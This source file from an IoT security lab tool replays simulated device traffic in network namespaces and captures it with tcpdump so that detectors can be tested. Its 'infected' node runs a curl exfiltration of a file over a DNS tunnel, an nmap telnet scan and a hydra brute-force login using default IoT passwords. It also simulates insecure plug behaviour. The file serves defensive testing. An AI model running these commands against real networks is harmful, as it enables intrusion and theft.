// `lab traffic` and `lab capture`: the devices' behaviour on the wire (what
// the detectors must see) and a tcpdump recording of the router's LAN.
import { spawn } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { ErrorCodes, IotguardError } from '../core/model/errors.js';
import { requireRoot, requireUp, type LabState, type Logger } from './lab.js';
import { LAB_NAMES, LAB_NODES, LAB_ROUTER_LAN_IP, LAB_SECRETS, netnsName } from './topology.js';

export interface TrafficAction {
  node: string;
  action: string;
  ok: boolean;
  detail?: string;
}

export interface TrafficResult {
  seconds: number;
  actions: TrafficAction[];
}

interface Step {
  action: string;
  argv: string[];
  timeoutMs?: number;
  /** Exit codes that still count as success (e.g. curl's 22 on an HTTP 404 that proves data went through). */
  okCodes?: number[];
  background?: boolean;
}

function execIn(ns: string, argv: string[], timeoutMs: number): Promise<{ code: number; out: string }> {
  return new Promise((res) => {
    const child = spawn('ip', ['netns', 'exec', ns, ...argv], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (b: Buffer) => { if (out.length < 8192) out += b.toString(); });
    child.stderr.on('data', (b: Buffer) => { if (out.length < 8192) out += b.toString(); });
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      res({ code: code ?? (signal ? 124 : 1), out });
    });
    child.on('error', (e) => {
      clearTimeout(timer);
      res({ code: 127, out: String(e) });
    });
  });
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function plan(state: LabState, seconds: number): Record<string, Step[]> {
  const igd = `http://${LAB_ROUTER_LAN_IP}:5000/rootDesc.xml`;
  const fw = `http://${LAB_NAMES.firmwareHost}`;
  const wordlist = join(state.stateDir, 'traffic-wordlist.txt');
  writeFileSync(wordlist, ['123456', 'admin', 'xc3511', 'vizxv', 'default', '888888'].join('\n') + '\n');
  const plugCheckins = Math.max(2, Math.floor(seconds / 5));
  return {
    plug: [
      { action: 'DNS lookup of its vendor names', argv: ['sh', '-c', `for n in ${LAB_NAMES.firmwareHost} ${LAB_NAMES.cloudHost} ${LAB_NAMES.mqttHost}; do getent ahostsv4 $n >/dev/null || exit 1; done`] },
      { action: 'firmware check over plain HTTP', argv: ['wget', '-q', '-O', '/dev/null', '-U', 'PlugCo-SP1/1.2.2 (mips; Linux 3.10.14)', `${fw}/firmware/latest.json`] },
      { action: 'firmware download over plain HTTP', argv: ['wget', '-q', '-O', '/dev/null', '-U', 'PlugCo-SP1/1.2.2 (mips; Linux 3.10.14)', `${fw}${LAB_NAMES.firmwarePath}`], timeoutMs: 30_000 },
      { action: 'MQTT publish with a password in clear (1883)', argv: ['mosquitto_pub', '-h', LAB_NAMES.mqttHost, '-p', '1883', '-i', 'sp1-70897600', '-u', LAB_SECRETS.mqttPlug.username, '-P', LAB_SECRETS.mqttPlug.password, '-t', 'plugco/sp1/state', '-m', '{"relay":"on","watts":3.2}'] },
      {
        action: `HTTPS check-ins without certificate validation (curl -k) x${plugCheckins}`,
        argv: ['sh', '-c', `i=0; while [ $i -lt ${plugCheckins} ]; do curl -k -s -f -o /dev/null -A 'PlugCo-SP1/1.2.2' https://${LAB_NAMES.cloudHost}/api/status || exit 1; i=$((i+1)); sleep 5; done`],
        timeoutMs: (seconds + 30) * 1000,
      },
    ],
    cam: [
      { action: 'DNS lookup of its relay', argv: ['getent', 'ahostsv4', LAB_NAMES.relayHost] },
      {
        action: `long-lived MQTT relay connection (${seconds} s)`,
        // -W ends it after the given time; exit 27 is mosquitto_sub's "timed out" which is what we want
        argv: ['mosquitto_sub', '-h', LAB_NAMES.relayHost, '-p', '1883', '-i', 'ipcam-hall-relay', '-u', 'cam', '-P', 'camrelay-7f3a', '-k', '5', '-t', 'camco/ipcam-hall/cmd', '-W', String(seconds)],
        okCodes: [0, 27],
        timeoutMs: (seconds + 10) * 1000,
      },
    ],
    console: [
      { action: 'UPnP AddPortMapping TCP/9295', argv: ['upnpc', '-u', igd, '-e', 'PS Remote Play', '-a', '192.168.77.50', '9295', '9295', 'TCP', '3600'] },
      { action: 'NAT-PMP mapping request UDP/9296', argv: ['natpmpc', '-g', LAB_ROUTER_LAN_IP, '-a', '9296', '9296', 'udp', '3600'] },
      { action: 'UPnP DeletePortMapping TCP/9295', argv: ['upnpc', '-u', igd, '-d', '9295', 'TCP'] },
      { action: 'NAT-PMP mapping removal UDP/9296', argv: ['natpmpc', '-g', LAB_ROUTER_LAN_IP, '-a', '9296', '9296', 'udp', '0'] },
    ],
    infected: [
      { action: 'fetch over the iodine DNS tunnel', argv: ['curl', '-s', '-f', '--max-time', '30', '-o', '/dev/null', 'http://10.99.0.1:8080/secret.txt'], timeoutMs: 40_000 },
      // the far end reads the whole body and says how many bytes it got: the step fails unless all of them crossed
      {
        action: 'exfiltrate a file over the DNS tunnel',
        argv: ['sh', '-c', 'n=$(wc -c < /etc/services); curl -s -f --max-time 60 --data-binary @/etc/services http://10.99.0.1:8080/cgi-bin/upload | grep -qx "received $n bytes"'],
        timeoutMs: 70_000,
      },
      { action: 'scan neighbours on telnet 23/2323', argv: ['nmap', '-n', '-sT', '-Pn', '-T5', '--max-retries', '0', '--host-timeout', '4s', '-p', '23,2323', '192.168.77.2-99'], timeoutMs: 120_000 },
      { action: 'telnet login attempts against the nas', argv: ['hydra', '-l', 'root', '-P', wordlist, '-t', '2', '-w', '10', '-f', 'telnet://192.168.77.30'], okCodes: [0, 255], timeoutMs: 120_000 },
    ],
    dvr: [{ action: 'DNS lookup', argv: ['getent', 'ahostsv4', LAB_NAMES.cloudHost] }],
  };
}

export async function playTraffic(opts: { seconds?: number; only?: string[] } = {}, log: Logger = () => {}): Promise<TrafficResult> {
  requireRoot();
  const state = requireUp();
  const seconds = Number.isFinite(opts.seconds) && (opts.seconds ?? 0) > 0 ? Math.min(600, Math.floor(opts.seconds!)) : 20;
  const steps = plan(state, seconds);
  // every device renews its DHCP lease first, as devices do on boot: host names and vendor classes on the wire
  for (const [n, list] of Object.entries(steps)) {
    const node = LAB_NODES.find((x) => x.name === n)!;
    const argv = ['busybox', 'udhcpc', '-i', 'eth0', '-n', '-q', '-f', '-t', '3', '-T', '1', '-s', '/bin/true', '-x', `hostname:${node.hostname}`, '-r', node.ip];
    if (node.vendorClass) argv.push('-V', node.vendorClass);
    list.unshift({ action: 'DHCP request with its host name', argv, timeoutMs: 15_000 });
  }
  const nodes = Object.keys(steps).filter((n) => !opts.only || opts.only.includes(n));
  for (const n of opts.only ?? []) {
    if (!LAB_NODES.some((x) => x.name === n)) throw new IotguardError(ErrorCodes.LAB_UNKNOWN_NODE, `no lab node '${n}'`);
  }
  const actions: TrafficAction[] = [];
  await Promise.all(
    nodes.map(async (n) => {
      const ns = netnsName(state.name, n);
      for (const s of steps[n]) {
        log(`${n}: ${s.action}`);
        const r = await execIn(ns, s.argv, s.timeoutMs ?? 20_000);
        const ok = (s.okCodes ?? [0]).includes(r.code);
        actions.push({ node: n, action: s.action, ok, ...(ok ? {} : { detail: `exit ${r.code}: ${r.out.trim().split('\n').slice(-2).join(' / ')}` }) });
      }
    }),
  );
  const order = Object.keys(steps);
  actions.sort((a, b) => order.indexOf(a.node) - order.indexOf(b.node));
  return { seconds, actions };
}

export interface CaptureResult {
  file: string;
  packets: number;
  dropped: number;
  traffic?: TrafficResult;
}

export async function labCapture(opts: { file: string; seconds: number; traffic: boolean; iface?: string }, log: Logger = () => {}): Promise<CaptureResult> {
  requireRoot();
  const state = requireUp();
  const file = resolve(opts.file);
  const seconds = Number.isFinite(opts.seconds) && opts.seconds > 0 ? opts.seconds : 30;
  const ns = netnsName(state.name, 'router');
  const child = spawn('ip', ['netns', 'exec', ns, 'tcpdump', '-i', opts.iface ?? 'br-lan', '-U', '--immediate-mode', '-B', '8192', '-s', '0', '-w', file], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  let err = '';
  child.stderr.on('data', (b: Buffer) => { err += b.toString(); });
  const exited = new Promise<number>((res) => child.on('close', (c) => res(c ?? 1)));
  const t0 = Date.now();
  while (!/listening on/.test(err)) {
    if (Date.now() - t0 > 10_000 || child.exitCode !== null) {
      child.kill('SIGKILL');
      throw new IotguardError(ErrorCodes.CAPTURE_FAILED, `tcpdump did not start: ${err.trim()}`);
    }
    await sleep(50);
  }
  log(`tcpdump on router ${opts.iface ?? 'br-lan'} -> ${file}`);
  let traffic: TrafficResult | undefined;
  if (opts.traffic) {
    traffic = await playTraffic({ seconds: Math.max(5, seconds - 5) }, log);
    const left = seconds * 1000 - (Date.now() - t0);
    if (left > 0) await sleep(Math.min(left, 5000));
  } else {
    await sleep(seconds * 1000);
  }
  await sleep(300); // let the last frames reach the file
  child.kill('SIGINT');
  await exited;
  const packets = Number(/(\d+) packets? captured/.exec(err)?.[1] ?? NaN);
  const dropped = Number(/(\d+) packets? dropped by kernel/.exec(err)?.[1] ?? 0);
  if (!existsSync(file) || !Number.isFinite(packets)) throw new IotguardError(ErrorCodes.CAPTURE_FAILED, `tcpdump failed: ${err.trim()}`);
  return { file, packets, dropped, ...(traffic ? { traffic } : {}) };
}
